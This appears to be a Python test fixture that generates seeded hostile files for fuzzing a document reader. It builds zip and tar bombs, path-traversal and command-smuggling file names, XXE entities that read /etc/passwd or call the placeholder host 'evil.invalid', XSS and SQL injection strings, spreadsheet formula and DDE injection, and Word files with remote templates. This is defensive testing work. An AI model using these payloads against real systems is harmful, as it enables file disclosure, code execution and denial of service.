"""Files made to do harm: bombs, ways out, endless depth, things that are two things, words that want to be code.

Seeded: the file of a number is the same at every run. What is not made here is one of the damaged files of
``tests.lib.reading.mutated``. The host that they call for is ``HOST``, which is nobody's.
"""

# ruff: noqa: E501  bytes that mean something are not broken
from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from tests.lib.reading import written
from tests.lib.reading.mutated import PAGE, SEEDS, TEXT, mutated

File = tuple[str, bytes]
HOST = "evil.invalid"
MARK = "Marta Holm of Norway thanked Iceland. “It works,” said Marta Holm."
CODE = (
    "<script>window.hit=1;alert(1)</script>", f"<img src='http://{HOST}/a.png' onerror='window.hit=1'>",
    f"![x](http://{HOST}/b.png)", "[x](javascript:window.hit=1)", r"$\frac{1}{0}$ $$\href{javascript:alert(1)}{x}$$",
    ":red[x] :material/home: **bold** `code`", f"<iframe src='http://{HOST}'></iframe>", "</style></script><svg/onload=alert(1)>",
    f"<a href='http://{HOST}'>x</a>", "{{7*7}} ${7*7} #{7*7} %s %(x)s {0}", "' OR 1=1; DROP TABLE facts; --", "\\input{/etc/passwd}",
    f"<link rel=stylesheet href=http://{HOST}/c.css>", f"<style>@import url(http://{HOST}/d.css)</style>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", f'=HYPERLINK("http://{HOST}","x")', f'=IMPORTXML("http://{HOST}","//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\uff1d1+1",
)  # fmt: skip
WAYS_OUT = (
    "../../../../tmp/dramatis-hostile.txt", "/tmp/dramatis-hostile.txt", "..\\..\\x.txt", "C:\\x.txt", "a/../../x.txt", "\\\\host\\share\\x.txt",
    "originals/../../x.txt", "x\0.txt", "a" * 300 + ".txt", "\u202etxt.exe", "con.txt", "a/b/" * 100 + "x.txt", "~/x.txt", "$HOME/x.txt", "`id`.txt",
    "x.txt;id", "%2e%2e%2fx.txt", ".../...//x.txt", "-rf", "file:///etc/passwd", " ", "\n", "ü\u0301" * 80 + ".txt",
)  # fmt: skip
ENTITIES = "".join(
    f'<!ENTITY l{n} "{"&l" + str(n - 1) + ";" if n else "lol"}{("&l" + str(n - 1) + ";") * 9 if n else ""}">'
    for n in range(10)
)
OUTER = '<!ENTITY % p SYSTEM "http://{host}/x.dtd"> %p; <!ENTITY f SYSTEM "file:///etc/passwd"> <!ENTITY h SYSTEM "http://{host}/x">'.replace(
    "{host}", HOST
)
ODT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>{}</office:text></office:body>'
    "</office:document-content>"
)
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'


@cache
def _zeros(megabytes: int, how: str) -> bytes:
    pack: dict[str, Callable[[bytes], bytes]] = {
        "gz": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "z": zlib.compress,
    }
    return pack[how](bytes(megabytes * 2**20))


@cache
def _long(megabytes: int) -> bytes:
    return (MARK.encode() + b" ") * (megabytes * 2**20 // len(MARK.encode()))


def _zip_bomb(dice: random.Random) -> File:
    size = dice.choice((1, 9, 60)) * 2**20
    held = bytearray(written.zipped([(f"{n}.txt", bytes(size)) for n in range(dice.choice((1, 3)))]))
    if dice.random() < 0.5:  # the list of contents lies about what is inside
        at = held.rfind(b"PK\x01\x02")
        held[at + 24 : at + 28] = struct.pack("<I", dice.choice((10, 2**31, 2**32 - 1)))
    return dice.choice(("bomb.zip", "bomb.docx", "bomb.txt")), bytes(held)


def _tar_bomb(dice: random.Random) -> File:
    how = dice.choice(("gz", "bz2", "xz"))
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode=f"w:{how}") as archive:  # type: ignore[call-overload]
        entry = tarfile.TarInfo("zeros.txt")
        entry.size = dice.choice((1, 30, 120)) * 2**20
        archive.addfile(entry, io.BytesIO(bytes(entry.size)))
        after = tarfile.TarInfo("after.txt")
        after.size = len(MARK.encode())
        archive.addfile(after, io.BytesIO(MARK.encode()))
    return f"bomb.tar.{how}", held.getvalue()


def _packed_zeros(dice: random.Random) -> File:
    how = dice.choice(("gz", "bz2", "xz"))
    return f"zeros.{how}", _zeros(dice.choice((20, 200)), how)


def _many_entries(dice: random.Random) -> File:
    """One member, listed thousands of times."""
    held = written.zipped([("a.txt", MARK.encode())])
    start, end = held.index(b"PK\x01\x02"), held.rindex(b"PK\x05\x06")
    entry, number = held[start:end], dice.choice((2_500, 6_000))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, number, number, len(entry) * number, start, 0)
    return "many.zip", held[:start] + entry * number + tail


def _nested(dice: random.Random) -> File:
    content = MARK.encode()
    for n in range(dice.choice((2, 5, 30))):
        content = written.zipped([(f"{n}.zip" if n else "a.txt", content)])
    return "nested.zip", content


def _ways_out_zip(dice: random.Random) -> File:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for n, name in enumerate(dice.sample(WAYS_OUT, 4)):
            archive.writestr(name.replace("\0", "_") or "x", f"{n}{dice.random()}\n\n{MARK}")
    return dice.choice(WAYS_OUT).replace("/", "_")[:80] + ".zip", held.getvalue()


def _ways_out_tar(dice: random.Random) -> File:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for name in dice.sample(WAYS_OUT, 4):
            entry = tarfile.TarInfo(name.replace("\0", ""))
            entry.type = dice.choice(
                (tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)
            )
            entry.linkname = dice.choice(("/etc/passwd", "../../..", "x"))
            content = f"{name}{dice.random()}\n\n{MARK}".encode("utf-8", "replace")
            entry.size = len(content) if entry.isreg() else 0
            archive.addfile(entry, io.BytesIO(content))
    return "out.tar", held.getvalue()


def _named_badly(dice: random.Random) -> File:
    return dice.choice(WAYS_OUT), f"{dice.choice(CODE)} {dice.random()}\n\n{MARK}".encode()


def _entities(dice: random.Random) -> File:
    kind = dice.choice(("laugh", "outer"))
    head = f'<?xml version="1.0"?><!DOCTYPE x [{ENTITIES if kind == "laugh" else OUTER}]>'
    called = "&l9;" if kind == "laugh" else "&f;&h;"
    made: tuple[Callable[[], File], ...] = (
        lambda: ("laugh.odt", written.odt_of(head + ODT.format(f"<text:p>{called}</text:p>"))),
        lambda: ("laugh.docx", _docx(head + WORD.format(f"<w:p><w:r><w:t>{called}</w:t></w:r></w:p>"))),
        lambda: ("laugh.html", f"{head}<html><body><p>{called}</p><p>{MARK}</p></body></html>".encode()),
        lambda: ("laugh.xlsx", _xlsx(f"{head}<worksheet><sheetData><row><c t='inlineStr'><is><t>{called}</t></is></c></row></sheetData></worksheet>")),
        lambda: ("laugh.svg", f"{head}<svg>{called}</svg>".encode()),
    )  # fmt: skip
    return dice.choice(made)()


def _docx(document: str, link: str = f"http://{HOST}/x.dotm") -> bytes:
    """A document that wants a template from elsewhere."""
    relation = f'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="{link}" TargetMode="External"/>'
    main = '<Relationship Id="r0" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return written.zipped(
        [("[Content_Types].xml", types.encode()), ("_rels/.rels", f"{head}{main}</Relationships>".encode()),
         ("word/document.xml", document.encode()), ("word/_rels/document.xml.rels", f"{head}{relation}</Relationships>".encode())]
    )  # fmt: skip


def _xlsx(sheet: str) -> bytes:
    import openpyxl

    held, made = io.BytesIO(), io.BytesIO()
    openpyxl.Workbook().save(held)
    with zipfile.ZipFile(held) as book, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        for name in book.namelist():
            out.writestr(name, sheet if name.endswith("sheet1.xml") else book.read(name))
    return made.getvalue()


def _template(dice: random.Random) -> File:
    return "template.docx", _docx(
        WORD.format(f"<w:p><w:r><w:t>{dice.choice(CODE).replace('<', '')} {MARK}</w:t></w:r></w:p>".replace("&", ""))
    )


def _pdf(dice: random.Random) -> File:
    whole = SEEDS["a.pdf"]
    stream = zlib.compress(b"BT /F1 10 Tf 40 500 Td (x) Tj ET\n" * 50_000) if dice.random() < 0.7 else _zeros(300, "z")
    ways: dict[str, Callable[[], bytes]] = {
        "encrypted": lambda: whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U (" + b"y" * 32 + b") /P -4 >> /ID [(a) (b)]"),
        "truncated": lambda: whole[: dice.randint(10, len(whole))],
        "itself": lambda: whole.replace(b"/Kids [5 0 R", b"/Kids [2 0 R"),
        "count": lambda: whole.replace(b"/Count 1", b"/Count 999999999"),
        "deep": lambda: whole.replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 50_000),
        "length": lambda: whole.replace(b"/Length ", b"/Length 9 0 R %"),
        "calls": lambda: whole.replace(b"/Type /Catalog", f"/Type /Catalog /OpenAction << /S /URI /URI (http://{HOST}) >>".encode()),
        "bomb": lambda: _with_stream(whole, stream),
    }  # fmt: skip
    name = dice.choice(list(ways))
    return f"{name}.pdf", ways[name]()


def _with_stream(whole: bytes, stream: bytes) -> bytes:
    at = whole.rindex(b"<< /Length")
    body = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream\nendobj\n"
    return whole[:at] + body + b"trailer << /Root 1 0 R >>\n%%EOF"


def _deep(dice: random.Random) -> File:
    n = dice.choice((200, 3_000, 60_000))
    ways: tuple[Callable[[], File], ...] = (
        lambda: ("deep.json", b"[" * n), lambda: ("deep.json", b'{"a":' * n + b"1" + b"}" * n),
        lambda: ("deep.jsonl", b'{"text":"x","a":' + b"[" * n + b"]" * n + b"}\n"),
        lambda: ("deep.html", b"<html><body>" + b"<div>" * n + MARK.encode() + b"</body></html>"),
        lambda: ("deep.html", b"<html><body>" + b"<table><tr><td>" * n + MARK.encode()),
        lambda: ("deep.html", b"<html><body><p>" + b"<b><i>" * n + MARK.encode()),
        lambda: ("deep.md", b">" * n + MARK.encode()), lambda: ("deep.md", b"- " * n + MARK.encode()),
        lambda: ("deep.md", b"[" * n + MARK.encode() + b"]" * n), lambda: ("deep.md", b"*_" * n + MARK.encode()),
        lambda: ("deep.rtf", b"{\\rtf1 " + b"{" * n + MARK.encode("cp1252", "replace") + b"}" * n),
        lambda: ("deep.odt", written.odt_of(ODT.format("<text:span>" * n + "x" + "</text:span>" * n))),
        lambda: ("deep.docx", _docx(WORD.format("<w:p>" * n + "x" + "</w:p>" * n))),
        lambda: ("deep.eml", b"".join(b"Subject: a\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(min(n, 3_000))) + MARK.encode()),
        lambda: ("deep.txt", (b"(" * n + MARK.encode() + b")" * n)), lambda: ("deep.txt", ("“" * n + MARK + "”" * n).encode()),
        lambda: ("deep.txt", (" said that " * n + MARK).encode()), lambda: ("deep.csv", b'title,text\n' + b'"' * n + MARK.encode()),
    )  # fmt: skip
    return dice.choice(ways)()


def _two_things(dice: random.Random) -> File:
    packed, sheet = written.zipped([("a.txt", MARK.encode())]), SEEDS["a.pdf"]
    ways = (
        sheet + packed, packed + sheet, b"GIF89a/*" + PAGE.encode() + b"*/=1", PAGE.encode() + packed, b"%PDF-1.4\n" + PAGE.encode(),
        b"MZ" + TEXT.encode(), b"{\\rtf1 " + PAGE.encode() + b"}", b"From a@b Mon Nov  3 10:00:00 2025\n" + packed, b"\x1f\x8b" + TEXT.encode(),
        b"PK\x03\x04" + TEXT.encode(), b"\x89PNG\r\n\x1a\n" + PAGE.encode(), TEXT.encode() + b"\0" * 5_000 + packed,
    )  # fmt: skip
    return dice.choice(("two.pdf", "two.zip", "two.html", "two.txt", "two.eml", "two")), dice.choice(ways)


def _odd_characters(dice: random.Random) -> File:
    odd = dice.choice(
        (
            "\0",
            "\u202e",
            "\u2066\u2067",
            "\u200b\u200d",
            "\u0301" * 400,
            "\ufeff",
            "\ufffe",
            "\x1b[2J",
            "\U000e0041",
            "\ud83d",
            "﷽",
            "İ",
            "ß" * 9,
            "\u2028",
            "\x85",
        )
    )
    text = list(f"{dice.random()} {TEXT}")
    for _ in range(dice.choice((1, 20, 300))):
        text.insert(dice.randrange(len(text)), odd)
    code = dice.choice(("utf-8", "utf-16", "utf-32", "utf-7", "utf-16-be"))
    content = "".join(text).encode(code, "surrogatepass" if code != "utf-7" else "replace")
    return dice.choice(("odd.txt", "odd.html", "odd.md", "odd.csv", "odd.json")), content


def _long_line(dice: random.Random) -> File:
    size = dice.choices((50, 9, 1), (1, 1, 8))[0]
    line = (
        _long(size)
        if size > 1
        else dice.choice(
            (b"a", b"9", b"a ", b"A. ", b"\xe2\x80\x9c", b"- ", b"Nov 3, 2025, ", b"John Smith, ", b"he said he ")
        )
        * dice.choice((3_000, 3_000, 3_000, 30_000))
    )
    ways = (
        line,
        b'title,text\n"x","' + line + b'"\n',
        b'{"text": "' + line.replace(b'"', b"") + b'"}',
        b"<p>" + line + b"</p>",
        b"# " + line,
        b"Subject: " + line + b"\nFrom: a\n\n" + MARK.encode(),
    )
    n = dice.randrange(len(ways))
    return ("long.txt", "long.csv", "long.jsonl", "long.html", "long.md", "long.eml")[n], ways[n]


def _formulas(dice: random.Random) -> File:
    cells = [dice.choice(FORMULAS) for _ in range(5)]
    text = f"{cells[0]} {dice.random()} {MARK}"
    if dice.random() < 0.3:
        rows = "".join(f'<c t="str"><f>{n}+1</f><v>{n}</v></c>' for n in range(4))
        return "formula.xlsx", _xlsx(
            f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row>{rows}</row></sheetData></worksheet>'
        )
    row = {
        "title": cells[1],
        "text": text,
        "outlet": cells[2],
        "author": cells[3],
        "section": cells[4],
        "date": "2025-11-03",
    }
    if dice.random() < 0.5:
        return "formula.jsonl", json.dumps(row).encode()
    return "formula.csv", (
        ",".join(row) + "\n" + ",".join('"' + cell.replace('"', '""') + '"' for cell in row.values()) + "\n"
    ).encode()


def _code(dice: random.Random) -> File:
    one, two, three = (dice.choice(CODE) for _ in range(3))
    text = f"{MARK} {one} said Marta Holm. “{two},” said {three} Holm. {dice.random()}"
    link = dice.choice(
        (
            "javascript:alert(1)",
            "file:///etc/passwd",
            f"http://{HOST}/",
            "data:text/html,<script>alert(1)</script>",
            "//x",
            "http://[x",
        )
    )
    row = {
        "title": one,
        "text": text,
        "outlet": two,
        "author": three,
        "section": two,
        "url": link,
        "date": dice.choice(("2025-11-03", "9999-99-99", "0000-00-00", one)),
    }
    ways = (
        ("code.txt", f"{one}\n\n{text}\n"), ("code.json", json.dumps([row])), ("code.md", f"---\ntitle: {one}\n---\n# {two}\n\n{text}\n\n[x]({link})\n"),
        ("code.html", f"<html><head><base href='http://{HOST}/'><meta http-equiv=refresh content='0;url={link}'><title>{one}</title></head><body><article><h1>{two}</h1><p>{text}</p><a href='{link}'>{three}</a></article></body></html>"),
        (f"{two}.txt".replace("/", "_"), text),
    )  # fmt: skip
    name, content = dice.choice(ways)
    return name, content.encode()


def _values(dice: random.Random) -> File:
    odd = dice.choice(
        ("1e999", "NaN", "9" * 5_000, "-0", "null", "[]", "{}", "true", '"\\ud800"', '"\\u0000"', "1" + "0" * 400)
    )
    fields = ("title", "text", "date", "outlet", "author", "url", "id", "language")
    row = ", ".join(f'"{name}": {odd if dice.random() < 0.4 else json.dumps(MARK)}' for name in fields)
    return dice.choice(("value.json", "value.jsonl")), ("{" + row + "}\n").encode() * dice.choice((1, 3))


def _wide(dice: random.Random) -> File:
    n = dice.choice((100, 20_000))
    return "wide.csv", (",".join(f"c{i}" for i in range(n)) + "\n" + ",".join("x" for _ in range(n)) + "\n").encode()


MAKERS: tuple[Callable[[random.Random], File], ...] = (
    _zip_bomb, _tar_bomb, _packed_zeros, _many_entries, _nested, _ways_out_zip, _ways_out_tar, _named_badly, _entities, _template, _pdf,
    _pdf, _deep, _deep, _two_things, _odd_characters, _long_line, _formulas, _code, _code, _values, _wide,
)  # fmt: skip


def hostile(n: int) -> File:
    """Name and bytes of the file of that number: one in four a damaged one, else made to do harm."""
    dice = random.Random(f"hostile {n}")
    return mutated(n, "hostile") if n % 4 == 3 else MAKERS[(n - n // 4) % len(MAKERS)](dice)
